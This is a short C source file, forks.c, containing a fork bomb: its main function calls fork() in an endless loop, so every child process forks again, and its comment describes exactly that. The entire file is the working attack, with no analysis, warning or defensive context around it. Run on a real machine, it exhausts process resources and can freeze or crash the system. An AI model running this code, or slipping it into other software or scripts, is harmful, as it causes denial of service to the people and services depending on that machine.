/*
 * forks.c - forks without end, and so do its children
 */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
